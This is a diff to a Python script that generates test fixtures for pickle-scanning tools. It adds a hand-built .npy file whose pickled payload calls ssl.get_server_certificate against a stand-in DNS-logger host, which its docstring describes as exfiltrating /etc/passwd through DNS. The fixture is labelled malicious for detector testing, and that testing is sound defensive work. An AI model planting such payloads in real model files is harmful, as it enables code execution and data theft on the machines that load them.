@@ -3,6 +3,7 @@
 and opcode-for-opcode where the peer pickles a ``__reduce__``.
 
 Sources (each function names its origin):
+* mmaitre314/picklescan ``tests/init_data_files.py`` (the lone object-array .npy), MIT;
 * protectai/modelscan ``tests/test_modelscan.py`` (fixtures ``file_path``, ``zip_file_path``,
   ``numpy_file_path``, ``keras_file_path``) and ``tests/test_utils.py`` (``PickleInject``),
   Apache-2.0;
@@ -214,10 +215,33 @@ def modelaudit(d: Path) -> dict[str, tuple[Path, str]]:
     return out
 
 
+# --------------------------------------------------------- picklescan tests/init_data_files.py
+
+def picklescan(d: Path) -> dict[str, tuple[Path, str]]:
+    """``initialize_numpy_files``: a lone object-array .npy whose element reduces to
+    ``ssl.get_server_certificate`` (np.load(allow_pickle=True) resolves a DNS name built from
+    /etc/passwd). Here the payload is the object list itself, not wrapped in an ndarray
+    reconstruction: np.load unpickles either the same way."""
+    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    hdr += " " * (63 - (10 + len(hdr)) % 64) + "\n"
+    payload = (pickle.PROTO + b"\x03" + pickle.MARK
+               + call("ssl", "get_server_certificate", (("root_x_0.dns-logger.invalid", 443),), 3)[2:-1]
+               + pickle.LIST + pickle.STOP)
+    path = d / "dns_exfiltration.npy"
+    path.write_bytes(b"\x93NUMPY\x01\x00" + len(hdr).to_bytes(2, "little") + hdr.encode() + payload)
+    buf = io.BytesIO()
+    np.save(buf, np.array([0, 1, 2]))
+    (d / "int_array.npy").write_bytes(buf.getvalue())
+    return {"picklescan/dns_exfiltration.npy": (path, "malicious"),
+            "picklescan/int_array.npy": (d / "int_array.npy", "benign")}
+
+
 def write_all(d: Path) -> dict[str, tuple[Path, str]]:
     (d / "modelscan").mkdir(parents=True, exist_ok=True)
     (d / "modelaudit").mkdir(parents=True, exist_ok=True)
-    return {**modelscan(d / "modelscan"), **modelaudit(d / "modelaudit")}
+    (d / "picklescan").mkdir(parents=True, exist_ok=True)
+    return {**modelscan(d / "modelscan"), **modelaudit(d / "modelaudit"),
+            **picklescan(d / "picklescan")}
 
 
 if __name__ == "__main__":
